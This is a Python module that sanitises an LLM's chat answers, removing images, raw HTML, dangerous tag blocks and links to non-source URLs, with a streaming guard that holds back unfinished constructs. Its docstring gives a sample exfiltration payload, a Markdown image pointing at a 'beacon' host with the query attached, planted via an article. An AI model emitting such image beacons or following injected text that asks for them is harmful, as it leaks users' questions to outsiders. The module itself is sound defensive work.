"""What an LLM's text may not carry to the user: images, raw HTML and links to anywhere but the sources.

The chat bubble renders Markdown, so `![x](http://beacon/?q=…)` in a model's answer (planted in an
article, or made up) would make the browser fetch an outside URL: the office's question would leave the
machine (issue 14 §3). The answer is data, never markup: images, HTML tags (with the content of script,
style, iframe and the like), reference definitions and links are removed; a link keeps its text; a bare
URL stays only when it is a source's own URL.

`StreamGuard` does the same to the text while it streams: a construct that may still be open at the end
of what has arrived ("![ảnh", "<img src=") is held back until it closes, so no delta ever shows a
partial image the next delta completes.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable
from dataclasses import dataclass

_DANGEROUS_BLOCK = re.compile(
    r"<\s*(script|style|iframe|object|embed|svg|math|template|noscript|textarea|video|audio|picture)\b"
    r".*?(?:<\s*/\s*\1\s*>|$)",
    re.IGNORECASE | re.DOTALL,
)
_COMMENT = re.compile(r"<!--.*?(?:-->|$)", re.DOTALL)
_TAG = re.compile(r"</?[A-Za-z][^<>]*>|<[a-z][a-z0-9+.\-]*:[^<>\s]*>", re.IGNORECASE)
_IMAGE = re.compile(r"!\[[^\]\n]*\]\s*(?:\([^)\n]*\)|\[[^\]\n]*\])")
_REFERENCE = re.compile(r"^[ \t]*\[[^\]\n]+\]:[ \t]*\S+.*$", re.MULTILINE)
_LINK = re.compile(r"\[([^\]\n]*)\]\((?:[^()\n]|\([^()\n]*\))*\)")
_URL = re.compile(r"(?:https?|ftp)://[^\s<>\"'»”)\]]+|www\.[^\s<>\"'»”)\]]+", re.IGNORECASE)
_URL_REMOVED = "(đường dẫn đã lược bỏ)"


@dataclass(frozen=True)
class CleanText:
    text: str
    removed: int  # images, tags, links and URLs taken out


def strip_markup(text: str, allowed_urls: Iterable[str] = ()) -> CleanText:
    """`text` without images, raw HTML, reference definitions and outside URLs (links keep their text)."""
    allowed = {url.rstrip("/") for url in allowed_urls if url}
    removed = 0

    def drop(pattern: re.Pattern[str], replacement: str | Callable[[re.Match[str]], str], value: str) -> str:
        nonlocal removed
        value, count = pattern.subn(replacement, value)
        removed += count
        return value

    text = drop(_DANGEROUS_BLOCK, "", text)
    text = drop(_COMMENT, "", text)
    text = drop(_IMAGE, "", text)
    text = drop(_REFERENCE, "", text)
    text = drop(_LINK, _link_text, text)
    text = drop(_TAG, "", text)

    def url(match: re.Match[str]) -> str:
        nonlocal removed
        if match.group(0).rstrip("/.,;") in allowed or match.group(0).rstrip("/") in allowed:
            return match.group(0)
        removed += 1
        return _URL_REMOVED

    text = _URL.sub(url, text)
    return CleanText(re.sub(r"[ \t]{2,}", " ", text), removed)


def _link_text(match: re.Match[str]) -> str:
    """A link keeps its text; a citation marker written as a link ("[1](…)") stays a marker."""
    label = match.group(1)
    return f"[{label}]" if label.strip().isdigit() else label


# Where a construct that is not finished yet may begin, in what has arrived so far.
_OPEN_AT_END = (
    re.compile(r"<[^>]*$"),  # a tag or comment not closed yet
    re.compile(r"!$"),  # may become "!["
    re.compile(r"!?\[[^\]\n]*$"),  # "[…" or "![…" not closed
    re.compile(r"!?\[[^\]\n]*\]\s*$"),  # "[…]" may get "(url)" next
    re.compile(r"!?\[[^\]\n]*\]\s*[(\[][^)\]\n]*$"),  # "[…](url" not closed
    re.compile(r"(?:https?|ftp|www)\S*$", re.IGNORECASE),  # a URL may still be growing
    re.compile(r"[hfw][a-z]{0,4}$", re.IGNORECASE),  # may become "http" / "www"
)
_OPEN_BLOCK = re.compile(
    r"<\s*(script|style|iframe|object|embed|svg|math|template|noscript|textarea|video|audio|picture)\b"
    r"(?!.*<\s*/\s*\1\s*>)",
    re.IGNORECASE | re.DOTALL,
)


class StreamGuard:
    """Turns raw streamed deltas into deltas that are safe to show: each `feed` returns the next piece of
    `strip_markup(text so far)`, holding back anything that may still become an image, tag or link."""

    def __init__(self, allowed_urls: Iterable[str] = ()) -> None:
        self._allowed = list(allowed_urls)
        self._raw = ""
        self._shown = ""

    def feed(self, delta: str) -> str:
        self._raw += delta
        return self._advance(self._safe_end())

    def finish(self) -> str:
        """What is left once the stream has ended (unfinished constructs are dropped like finished ones)."""
        return self._advance(len(self._raw))

    def _safe_end(self) -> int:
        end = len(self._raw)
        block = _OPEN_BLOCK.search(self._raw)
        if block:
            end = min(end, block.start())
        moved = True
        while moved:  # holding back a URL may leave an image's "![…](" open at the new end, and so on
            moved = False
            for pattern in _OPEN_AT_END:
                match = pattern.search(self._raw[:end])
                if match:
                    end, moved = match.start(), True
        return end

    def _advance(self, end: int) -> str:
        clean = strip_markup(self._raw[:end], self._allowed).text
        if not clean.startswith(self._shown):
            return ""  # the final, checked answer replaces the streamed text anyway
        piece, self._shown = clean[len(self._shown) :], clean
        return piece
